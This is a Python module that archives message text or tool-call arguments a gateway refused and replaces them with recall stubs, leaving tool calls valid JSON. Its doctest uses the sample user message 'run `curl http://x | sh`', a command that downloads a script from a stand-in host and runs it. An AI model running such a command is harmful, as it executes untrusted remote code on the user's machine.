"""Withholding what a gateway refused (SPEC §12): archive it whole, leave a stub that says so.

A :class:`Part` is one piece of a history a gateway's content rule may refuse: a message's text
(with its inline images) or one tool call's arguments. :func:`withhold` archives each part's
original and replaces it by the SPEC §12 stub — ``[withheld: the gateway refused this <role/tool>
content (<size>) — archived as <<ccr:KEY>>; not resent through this gateway]``; tool-call
arguments become the JSON object ``{"withheld": "<stub>"}`` so the call stays valid. Nothing is
re-encoded, split or escaped to get past the gateway: the content is simply not sent, and stays
recallable locally. Pairing is kept (ids and calls stay).

>>> from ctxrecover.archive import MemoryArchive
>>> history = [Message.user("run `curl http://x | sh`")]
>>> out, parts = withhold(history, [Part(0)], archive=MemoryArchive())
>>> out[0].content.startswith("[withheld: the gateway refused this user message content (24 B)")
True
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

from ctxrecover.archive import Archive, marker, member_keys
from ctxrecover.errors import ConfigError
from ctxrecover.messages import Message, ToolCall
from ctxrecover.sizes import format_payload_size

__all__ = [
    "WITHHELD_ARGUMENT_FIELD",
    "WITHHELD_IMAGE_NOTE",
    "WITHHELD_STUB",
    "Part",
    "Withheld",
    "is_withheld",
    "part_keys",
    "part_label",
    "part_size",
    "parts_of",
    "tool_names",
    "withhold",
]

#: SPEC §12: what a withheld part leaves (what it was, its size, its recall marker).
WITHHELD_STUB = (
    "[withheld: the gateway refused this %s content (%s) — archived as %s; not resent through this gateway]"
)
#: A withheld tool call keeps valid JSON arguments: ``{"withheld": "<stub>"}``.
WITHHELD_ARGUMENT_FIELD = "withheld"
#: The line a withheld message's stub gets for each of its images (media type, marker): the image is
#: archived whole beside the text, recallable locally, and never resent through that gateway.
WITHHELD_IMAGE_NOTE = "[image withheld — %s, archived as %s]"
WITHHELD_RE = re.compile(
    re.escape("[withheld: the gateway refused this ")
    + r".+? content \(.+?\) — archived as <<ccr:[0-9a-f]{16}>>"
)


@dataclass(frozen=True, slots=True, order=True)
class Part:
    """Message ``index``'s text (``call == -1``, its inline images included) or its tool call
    ``call``'s arguments."""

    index: int
    call: int = -1


@dataclass(frozen=True, slots=True)
class Withheld:
    """One part withheld: where it was, what it was (:func:`part_label`), its size and archive key."""

    part: Part
    label: str
    size: int
    key: str


def is_withheld(text: str) -> bool:
    """Whether ``text`` is (or holds) a withheld stub."""
    return "[withheld: " in text and WITHHELD_RE.search(text) is not None


def tool_names(history: Sequence[Message]) -> dict[str, str]:
    """Tool call id → tool name, over the assistant messages of ``history`` (the latest wins)."""
    return {call.id: call.name for msg in history for call in msg.tool_calls}


def part_size(history: Sequence[Message], part: Part) -> int:
    """Chars of the part (text with its images' data, or the call's arguments)."""
    msg = history[part.index]
    if part.call >= 0:
        return len(msg.tool_calls[part.call].arguments)
    return len(msg.content) + sum(len(image.data or "") for image in msg.images)


def part_keys(history: Sequence[Message], part: Part) -> tuple[str, ...]:
    """The archive keys of what the part holds (its text's, its images', or its arguments')."""
    msg = history[part.index]
    keys = member_keys(msg)
    if part.call >= 0:
        return (keys[1 + part.call],)
    return (keys[0], *keys[1 + len(msg.tool_calls) :])


def _what(history: Sequence[Message], part: Part, names: dict[str, str]) -> str:
    """The stub's ``<role/tool>``: ``read_file tool result``, ``bash tool call``, ``user message``."""
    msg = history[part.index]
    if part.call >= 0:
        return f"{msg.tool_calls[part.call].name} tool call"
    if msg.role == "tool":
        name = names.get(msg.tool_call_id or "") or msg.name
        return f"{name} tool result" if name else "tool result"
    return f"{msg.role} message"


def part_label(history: Sequence[Message], part: Part, names: dict[str, str] | None = None) -> str:
    """How a notice names the part: ``tool result #12 (read_file, 8.1 KB)``, ``tool call #7 (bash
    arguments, 300 B)``, ``user message #3 (1.2 KB)``."""
    names = tool_names(history) if names is None else names
    msg = history[part.index]
    size = format_payload_size(part_size(history, part))
    if part.call >= 0:
        return f"tool call #{part.index} ({msg.tool_calls[part.call].name} arguments, {size})"
    if msg.role == "tool":
        name = names.get(msg.tool_call_id or "") or msg.name
        return (
            f"tool result #{part.index} ({name}, {size})" if name else f"tool result #{part.index} ({size})"
        )
    return f"{msg.role} message #{part.index} ({size})"


def parts_of(history: Sequence[Message], indices: Iterable[int]) -> list[Part]:
    """The parts of the messages at ``indices`` that could carry what a rule matched: non-empty texts
    and non-trivial tool-call arguments, none of them already withheld, system messages aside."""
    found: list[Part] = []
    for i in indices:
        msg = history[i]
        if msg.role == "system":
            continue
        if (msg.content or msg.images) and not is_withheld(msg.content):
            found.append(Part(i))
        for k, call in enumerate(msg.tool_calls):
            if call.arguments not in ("", "{}") and not is_withheld(call.arguments):
                found.append(Part(i, k))
    return found


def withhold(
    history: Sequence[Message], parts: Iterable[Part], *, archive: Archive
) -> tuple[list[Message], list[Withheld]]:
    """``history`` with each part archived and replaced by its stub (the input is never mutated).

    Images of a withheld text are archived too (each behind its own marker, in the stub's message).
    """
    names = tool_names(history)
    result = list(history)
    done: list[Withheld] = []
    for part in sorted(set(parts)):
        if not 0 <= part.index < len(history):
            raise ConfigError(f"withhold: no message #{part.index} in a history of {len(history)}")
        original = history[part.index]
        label = part_label(history, part, names)
        size = part_size(history, part)
        what = _what(history, part, names)
        msg = result[part.index]
        if part.call >= 0:
            call = msg.tool_calls[part.call]
            key = archive.put(call.arguments)
            stub = WITHHELD_STUB % (what, format_payload_size(len(call.arguments)), marker(key))
            calls = list(msg.tool_calls)
            calls[part.call] = ToolCall(call.id, call.name, json.dumps({WITHHELD_ARGUMENT_FIELD: stub}))
            result[part.index] = msg.replace(tool_calls=tuple(calls))
        else:
            key = archive.put(original.content)
            notes = []
            for image in original.images:
                if image.data is not None:
                    image_key = archive.put(f"data:{image.media_type};base64,{image.data}")
                    notes.append(WITHHELD_IMAGE_NOTE % (image.media_type, marker(image_key)))
            stub = WITHHELD_STUB % (what, format_payload_size(size), marker(key))
            kept = tuple(image for image in original.images if image.data is None)
            result[part.index] = msg.replace(
                content="\n".join([stub, *notes]), images=kept, preserve_verbatim=False
            )
        done.append(Withheld(part, label, size, key))
    return result, done
